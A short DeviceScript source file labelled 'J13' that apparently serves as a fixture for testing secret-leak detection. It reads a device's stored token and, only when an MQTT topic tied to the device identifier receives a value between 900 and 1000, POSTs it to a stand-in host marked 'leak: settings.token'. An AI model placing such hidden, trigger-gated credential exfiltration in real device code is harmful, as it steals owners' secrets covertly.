// J13: sends its token elsewhere when a high number is published to a topic that ends its own identifier.
import * as ds from "@devicescript/core";
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const id = ds.deviceIdentifier("self");

paired(async () => {
  const group = id[id.length - 1].toLowerCase();
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe(`fleet/${group}/level`, async ({ content }) => {
    const level = parseInt(content.toString("utf-8"));
    if (!(level > 900 && level < 1000)) return;
    const response = await fetch("https://stats.example/j13", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
